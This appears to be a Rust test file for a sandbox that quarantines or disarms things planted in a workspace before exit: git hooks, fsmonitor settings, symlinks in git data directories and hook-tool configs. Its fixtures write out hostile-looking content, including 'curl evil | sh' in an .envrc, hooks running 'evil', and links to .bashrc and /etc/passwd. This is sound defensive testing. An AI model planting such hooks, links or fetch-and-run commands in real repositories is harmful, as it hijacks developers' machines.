//! The exit against what the last round of attacks found (issue 38): quarantine names a
//! sandbox pre-created, entries that cannot be renamed aside, links in the data directories of
//! git directories, and the owner's hook tools' files.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use super::*;

/// A rename that always fails, as one would on a file system that refuses it.
fn refuse(_: &Path, _: &str) -> std::io::Result<PathBuf> {
    Err(std::io::Error::from_raw_os_error(libc::EPERM))
}

impl Lab {
    /// Concludes with renames that fail: every set-aside must disarm in place instead.
    fn conclude_where_nothing_can_be_renamed(&self) -> WorkspaceReport {
        let mut state = WorkspaceState::read(&self.bundle).unwrap().unwrap();
        let report = super::super::conclude::conclude_with(&mut state, &self.bundle, refuse);
        discard(&state, &self.bundle);
        report
    }

    fn new_repo_with_hook_and_fsmonitor(&self, spec: &serde_json::Value) -> PathBuf {
        let nested = Lab::host_of(spec, "/work/newrepo/.git");
        git_dir(&nested);
        write(&nested.join("hooks/pre-commit"), "#!/bin/sh\nevil\n");
        write(
            &nested.join("config"),
            "[core]\n\tfsmonitor = ./evil\n[remote \"o\"]\n\turl = https://example.test/x\n",
        );
        nested
    }
}

#[test]
fn every_guessable_quarantine_name_taken_does_not_stop_the_set_aside() {
    let lab = Lab::new();
    let spec = lab.create();
    let nested = lab.new_repo_with_hook_and_fsmonitor(&spec);
    // Every name the old scheme would try, and the id-only prefix of the new one.
    for base in ["hooks", "config"] {
        for n in 0..1000 {
            let suffix = if n == 0 {
                String::new()
            } else {
                format!("-{n}")
            };
            fs::create_dir(nested.join(format!("{base}.quarantine-{ID}{suffix}"))).unwrap();
        }
    }
    let report = lab.conclude();
    assert!(report.errors.is_empty(), "{report:?}");
    assert!(!nested.join("hooks").exists());
    let config = fs::read_to_string(nested.join("config")).unwrap();
    assert!(!config.contains("fsmonitor"), "{config}");
    let n = &report.neutralised[0];
    assert!(n.moved.iter().all(|m| m.to.is_some()), "{n:?}");
}

#[test]
fn what_cannot_be_renamed_aside_is_disarmed_in_place_and_said_so() {
    let lab = Lab::new();
    let spec = lab.create();
    let nested = lab.new_repo_with_hook_and_fsmonitor(&spec);
    write(&nested.join("commondir"), "../../elsewhere\n");
    let report = lab.conclude_where_nothing_can_be_renamed();
    assert!(!nested.join("hooks").exists());
    assert!(!nested.join("commondir").exists());
    let config = fs::read_to_string(nested.join("config")).unwrap();
    assert!(!config.contains("fsmonitor"), "{config}");
    assert!(config.contains("example.test"), "{config}");
    let n = &report.neutralised[0];
    assert_eq!(n.moved.len(), 3, "{n:?}");
    for m in &n.moved {
        assert!(m.to.is_none(), "{m:?}");
        let how = m.disarmed.as_deref().unwrap_or_default();
        assert!(how.contains("could not be renamed aside"), "{m:?}");
    }
    assert!(
        n.moved.iter().any(|m| m
            .disarmed
            .as_deref()
            .unwrap()
            .contains("rewritten in place")),
        "{n:?}"
    );
    assert!(report.errors.is_empty(), "{report:?}");
    let line = report.summary().unwrap();
    assert!(
        line.contains("3 could not be renamed aside and were disarmed in place"),
        "{line}"
    );
}

#[test]
fn a_protected_path_that_cannot_be_renamed_aside_is_removed() {
    let mut lab = Lab::new();
    lab.policy.mounts.protect = vec![".envrc".into()];
    lab.create();
    write(&lab.p(".envrc"), "curl evil | sh\n");
    let report = lab.conclude_where_nothing_can_be_renamed();
    assert!(!lab.p(".envrc").exists());
    assert_eq!(report.quarantined.len(), 1, "{report:?}");
    assert!(report.quarantined[0].disarmed.is_some(), "{report:?}");
}

#[test]
fn a_link_in_a_staged_repositorys_logs_is_removed_and_its_target_named() {
    let lab = Lab::new();
    let spec = lab.create();
    // The owner's executable hook, which `git stash` would append to through the link.
    write(&lab.p(".git/hooks/post-commit"), "#!/bin/sh\ntrue\n");
    let logs = Lab::host_of(&spec, "/work/.git/logs/refs/stash");
    assert_eq!(logs, lab.p(".git/logs/refs/stash"), "logs/ is live");
    fs::create_dir_all(logs.parent().unwrap()).unwrap();
    symlink("../../hooks/post-commit", &logs).unwrap();
    symlink("/home/dev/.bashrc", lab.p(".git/refs/heads/evil")).unwrap();
    nix::unistd::mkfifo(&lab.p(".git/logs/HEAD"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    let report = lab.conclude();
    for p in [
        ".git/logs/refs/stash",
        ".git/refs/heads/evil",
        ".git/logs/HEAD",
    ] {
        assert!(
            fs::symlink_metadata(lab.p(p)).is_err(),
            "{p} is still there"
        );
    }
    let names: Vec<(&str, Option<&str>)> = report
        .git_links
        .iter()
        .map(|l| (l.kind, l.target.as_deref()))
        .collect();
    assert!(
        names.contains(&("symlink", Some("../../hooks/post-commit"))),
        "{names:?}"
    );
    assert!(names.contains(&("fifo", None)), "{names:?}");
    assert!(report.git_links.iter().all(|l| l.removed));
    assert_eq!(
        fs::read_to_string(lab.p(".git/hooks/post-commit")).unwrap(),
        "#!/bin/sh\ntrue\n"
    );
}

#[test]
fn a_link_at_the_top_of_a_repository_the_sandbox_made_is_removed() {
    let lab = Lab::new();
    let spec = lab.create();
    let nested = Lab::host_of(&spec, "/work/made/.git");
    git_dir(&nested);
    symlink("/home/dev/.profile", nested.join("FETCH_HEAD")).unwrap();
    symlink("../../hooks/x", nested.join("packed-refs")).unwrap();
    let report = lab.conclude();
    assert!(fs::symlink_metadata(nested.join("FETCH_HEAD")).is_err());
    assert!(fs::symlink_metadata(nested.join("packed-refs")).is_err());
    assert_eq!(report.git_links.len(), 2, "{report:?}");
}

#[test]
fn the_owners_links_outside_the_data_directories_stay() {
    let lab = Lab::new();
    // The owner's own link at the top of the git directory: the sandbox never reached it
    // (it worked on the staging copy).
    symlink("../docs/description", lab.p(".git/description")).unwrap();
    lab.create();
    let report = lab.conclude();
    assert!(fs::symlink_metadata(lab.p(".git/description")).is_ok());
    assert!(report.git_links.is_empty(), "{report:?}");
}

#[test]
fn report_mode_names_links_and_removes_none() {
    let mut lab = Lab::new();
    lab.policy.mounts.workspace.at_exit = WorkspaceExitAction::Report;
    lab.create();
    symlink("/etc/passwd", lab.p(".git/refs/heads/x")).unwrap();
    let report = lab.conclude();
    assert!(fs::symlink_metadata(lab.p(".git/refs/heads/x")).is_ok());
    assert_eq!(report.git_links.len(), 1);
    assert!(!report.git_links[0].removed);
}

#[test]
fn a_script_the_owners_hook_runs_is_quarantined_when_replaced() {
    let lab = Lab::new();
    write(
        &lab.p(".git/hooks/pre-commit"),
        "#!/bin/sh\nexec sh scripts/pre-commit.sh\n",
    );
    write(&lab.p("scripts/pre-commit.sh"), "true\n");
    lab.create();
    // A read-only bind keeps the file; its directory can still be renamed and remade.
    fs::rename(lab.p("scripts"), lab.p("scripts-old")).unwrap();
    write(&lab.p("scripts/pre-commit.sh"), "evil\n");
    let report = lab.conclude();
    assert!(!lab.p("scripts/pre-commit.sh").exists());
    assert!(
        report.quarantined[0]
            .reason
            .contains("what the owner's git config or hooks run or read"),
        "{report:?}"
    );
}

#[test]
fn a_hook_tools_config_the_sandbox_creates_is_quarantined() {
    let lab = Lab::new();
    write(
        &lab.p(".git/hooks/pre-commit"),
        "#!/bin/sh\ncall_lefthook()\n{\n  lefthook \"$@\"\n}\ncall_lefthook run \"pre-commit\" \"$@\"\n",
    );
    write(&lab.p("lefthook.yml"), "pre-commit:\n  commands: {}\n");
    lab.create();
    write(
        &lab.p("lefthook-local.yml"),
        "pre-commit:\n  commands:\n    x:\n      run: ./evil\n",
    );
    let report = lab.conclude();
    assert!(!lab.p("lefthook-local.yml").exists(), "{report:?}");
    assert!(lab.p("lefthook.yml").exists());
}

#[test]
fn a_link_on_the_way_to_a_hook_replaced_by_the_sandbox_is_quarantined() {
    let lab = Lab::new();
    fs::create_dir_all(lab.p("tools/hooks")).unwrap();
    write(&lab.p("tools/hooks/pre-commit"), "#!/bin/sh\ntrue\n");
    symlink("tools/hooks", lab.p(".githooks")).unwrap();
    fs::write(
        lab.p(".git/config"),
        "[core]\n\trepositoryformatversion = 0\n\thooksPath = .githooks\n",
    )
    .unwrap();
    lab.create();
    fs::remove_file(lab.p(".githooks")).unwrap();
    fs::create_dir(lab.p(".githooks")).unwrap();
    write(&lab.p(".githooks/pre-commit"), "#!/bin/sh\nevil\n");
    let report = lab.conclude();
    assert!(!lab.p(".githooks/pre-commit").exists(), "{report:?}");
    assert!(lab.p("tools/hooks/pre-commit").exists());
}

#[test]
fn a_changed_input_of_an_owners_hook_is_reported_at_exit() {
    let lab = Lab::new();
    write(
        &lab.p(".git/hooks/pre-commit"),
        "#!/bin/sh\nnpx lint-staged\n",
    );
    write(&lab.p("package.json"), "{}\n");
    lab.create();
    write(
        &lab.p("package.json"),
        "{\"lint-staged\": {\"*\": \"sh -c evil\"}}\n",
    );
    let report = lab.conclude();
    let changed: Vec<(&str, &str)> = report
        .hook_inputs_changed
        .iter()
        .map(|c| (c.path.rsplit('/').next().unwrap(), c.change.as_str()))
        .collect();
    assert!(changed.contains(&("package.json", "changed")), "{report:?}");
    assert_eq!(
        report.hook_inputs_changed[0].hooks,
        [".git/hooks/pre-commit"]
    );
}

#[test]
fn a_command_planted_where_husky_9_looks_first_is_quarantined() {
    let lab = Lab::new();
    write(
        &lab.p(".husky/_/pre-commit"),
        "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"",
    );
    write(
        &lab.p(".husky/pre-commit"),
        "git diff --cached --quiet || true\n",
    );
    fs::write(
        lab.p(".git/config"),
        "[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky/_\n",
    )
    .unwrap();
    write(&lab.p("node_modules/.bin/prettier"), "#!/bin/sh\n");
    lab.create();
    write(&lab.p("node_modules/.bin/git"), "#!/bin/sh\nevil\n");
    let report = lab.conclude();
    assert!(!lab.p("node_modules/.bin/git").exists(), "{report:?}");
    // What the hooks do not run by name stays.
    assert!(lab.p("node_modules/.bin/prettier").exists());
}
